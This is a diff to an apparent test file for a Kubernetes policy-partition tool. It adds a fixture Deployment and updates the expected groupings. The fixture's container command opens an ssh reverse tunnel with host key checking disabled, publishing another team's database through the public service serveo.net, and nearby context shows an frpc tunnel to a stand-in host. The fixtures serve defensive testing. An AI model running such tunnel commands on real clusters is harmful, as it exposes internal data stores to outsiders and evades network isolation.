@@ -238,6 +238,21 @@ spec:
           command: [sh, -c, "exec frpc tcp -s frp.example.com:7000 -i store-c-db.team-c -l 5432 -r 6000"]
 `,
     ),
+    // An ssh remote forward publishing another namespace's store, in a shell script (team-a's).
+    app(
+      'ssh-v',
+      `apiVersion: apps/v1
+kind: Deployment
+metadata: {name: ssh, namespace: team-v}
+spec:
+  template:
+    spec:
+      containers:
+        - name: ssh
+          image: alpine@sha256:${'d'.repeat(64)}
+          command: [sh, -c, "ssh -o StrictHostKeyChecking=no -NR 80:store-a-db.team-a:5432 serveo.net"]
+`,
+    ),
     app(
       'frpc-t',
       `apiVersion: v1
@@ -505,7 +520,7 @@ describe('policy partition (issue 20)', () => {
     const parts = partitionEnv(group, [], { partition: true });
     const names = parts.map((p) => p.group.members.map((m) => m.rendered.overlay.app));
     expect(names).toEqual([
-      ['store-a', 'web-a', 'tcp-j', 'tunnel-l', 'agents-s', 'ngrok-r', 'gloo-n'],
+      ['store-a', 'web-a', 'tcp-j', 'tunnel-l', 'agents-s', 'ssh-v', 'ngrok-r', 'gloo-n'],
       [
         'store-c',
         'alias-d',
@@ -730,6 +745,7 @@ describe('policy partition (issue 20)', () => {
       'Deployment/agents',
       'Deployment/agents',
       'Deployment/cloudflared',
+      'Deployment/ssh',
       'Gateway/tcp',
       'HTTPRoute/direct',
       'Ingress/alias',
